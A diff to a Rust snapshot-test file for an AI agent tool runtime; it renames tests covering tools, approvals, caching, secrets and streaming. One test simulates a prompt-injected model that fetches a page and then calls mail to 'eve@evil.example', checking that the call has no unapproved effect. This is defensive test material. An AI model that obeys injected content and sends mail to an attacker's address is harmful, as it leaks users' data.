@@ -13,7 +13,7 @@ fn output(name: &str) -> String {
 }
 
 #[test]
-fn a_first_tool_answers_and_refuses() {
+fn first_tool_runs_and_refuses_invalid_calls() {
     insta::assert_snapshot!(output("first_tool"), @r#"
     count_words({"text":"a call leaves by one door"})
       6 words
@@ -34,7 +34,7 @@ fn a_first_tool_answers_and_refuses() {
 }
 
 #[test]
-fn state_and_side_values_reach_the_tools_and_not_the_schema() {
+fn state_reaches_the_tools_and_not_the_schema() {
     insta::assert_snapshot!(output("state"), @r#"
     without a limit: tool `ledger_book` needs a `State<state::Limit>`
     hint: give it to the runtime's builder with `.state(value)`
@@ -56,7 +56,7 @@ fn state_and_side_values_reach_the_tools_and_not_the_schema() {
 }
 
 #[test]
-fn layers_retry_keep_and_hold_back() {
+fn layers_retry_cache_and_rate_limit() {
     insta::assert_snapshot!(output("layers"), @r"
     tides stands behind
       cache: 1 hour, for one user
@@ -88,7 +88,7 @@ fn layers_retry_keep_and_hold_back() {
 }
 
 #[test]
-fn a_large_result_is_kept_and_read_in_parts() {
+fn large_result_is_stored_and_read_in_pages() {
     insta::assert_snapshot!(output("large_results"), @r#"
     > list_trains
     [{"train":100,"hour":0,"to":"Oslo"},{"train":101,"hour":1,"to":"Turku"},{"train":102,"hour":2,"to":"Oslo"},{"train":103,"hour":3,"to":"Turku"},"… 295 more items …",{"train":399,"hour":11,"to":"Turku"}]
@@ -117,7 +117,7 @@ fn a_large_result_is_kept_and_read_in_parts() {
 }
 
 #[test]
-fn an_own_loop_goes_on_until_the_model_stops() {
+fn own_loop_runs_until_the_model_stops() {
     insta::assert_snapshot!(output("own_loop"), @r#"
     system: Every tool result stands between two marks, `[haft ID tool=NAME ...]` and `[/haft ID]` …
     user: Where is it warmer, Paris or Oslo?
@@ -151,7 +151,7 @@ fn an_own_loop_goes_on_until_the_model_stops() {
 }
 
 #[test]
-fn a_history_is_moved_and_what_changed_is_told() {
+fn history_is_converted_and_the_changes_are_printed() {
     insta::assert_snapshot!(output("move_history"), @r#"
     strict: calls and results do not pair up: message 2: the call `toolu_01B` has no result
     hint: `Transcript::mend` repairs this and says how
@@ -164,14 +164,14 @@ fn a_history_is_moved_and_what_changed_is_told() {
     {"role":"user","content":"How warm is it in Oslo and Rome?"}
     {"role":"assistant","content":"","tool_calls":[{"id":"az0kpLmVo","type":"function","function":{"name":"warmth","arguments":"{\"city\":\"Oslo\"}"}},{"id":"Mql2mKRXY","type":"function","function":{"name":"warmth","arguments":"{\"city\":\"Rome\"}"}}]}
     {"role":"tool","tool_call_id":"az0kpLmVo","name":"warmth","content":"7"}
-    {"role":"tool","tool_call_id":"Mql2mKRXY","name":"warmth","content":"[this call failed]\nunknown_outcome: no result of this call was recorded, and nobody knows whether it ran"}
+    {"role":"tool","tool_call_id":"Mql2mKRXY","name":"warmth","content":"[this call failed]\nunknown_outcome: no result of this call was recorded; it may or may not have run"}
     {"role":"assistant","content":"(the results were read)"}
     {"role":"user","content":"Are you still there?"}
     "#);
 }
 
 #[test]
-fn a_loop_sends_what_was_recorded_to_two_providers() {
+fn provider_loop_sends_the_recorded_requests_to_two_providers() {
     insta::assert_snapshot!(output("provider_loop"), @r#"
     anthropic
     user: When can I go from Lyon to Turin, and from which track?
@@ -258,7 +258,7 @@ fn rules_allow_ask_deny_and_say_why() {
 }
 
 #[test]
-fn whoever_is_asked_allows_edits_answers_and_declines() {
+fn approver_allows_edits_answers_and_denies() {
     insta::assert_snapshot!(output("approvals"), @r#"
     allowed once, with a comment: pay Ada 5
       asked about pay({"to":"Ada","amount":5}): it does not say that it only reads
@@ -293,7 +293,7 @@ fn whoever_is_asked_allows_edits_answers_and_declines() {
 }
 
 #[test]
-fn work_goes_on_after_its_answer_and_each_result_comes_once() {
+fn background_work_continues_and_each_result_is_delivered_once() {
     insta::assert_snapshot!(output("background"), @r#"
     model calls build({"part":"library"})
       reads: {"ticket_id":"ticket-1","tool_name":"build","status":"running","poll_after_s":5,"summary":"building library","resume_hint":"go on with something else; ask `check_ticket` for the result when you need it"}
@@ -316,7 +316,7 @@ fn work_goes_on_after_its_answer_and_each_result_comes_once() {
 }
 
 #[test]
-fn a_model_that_obeys_what_it_reads_has_no_effect_nobody_approved() {
+fn prompt_injected_model_has_no_unapproved_effect() {
     insta::assert_snapshot!(output("obedient"), @r#"
     model: fetch({"_url": "https://news.example"})
     model: mail({"to": "eve@evil.example"})
@@ -331,7 +331,7 @@ fn a_model_that_obeys_what_it_reads_has_no_effect_nobody_approved() {
 }
 
 #[test]
-fn secrets_reach_the_body_and_nobody_else() {
+fn secrets_reach_only_the_body() {
     insta::assert_snapshot!(output("secrets"), @r#"
     send_mail({"to":"bob","password":"secret://mail"})
       logged in with 13 characters ([REDACTED:secret/mail:13]), wrote to bob
@@ -350,7 +350,7 @@ fn secrets_reach_the_body_and_nobody_else() {
 }
 
 #[test]
-fn a_slow_reader_misses_notes_and_no_end_and_records_say_the_rest() {
+fn slow_subscriber_misses_progress_but_no_terminal_event() {
     insta::assert_snapshot!(output("observability"), @r"
     the stream
        1 to 47: missed 47, of them 40 notes and 0 ends
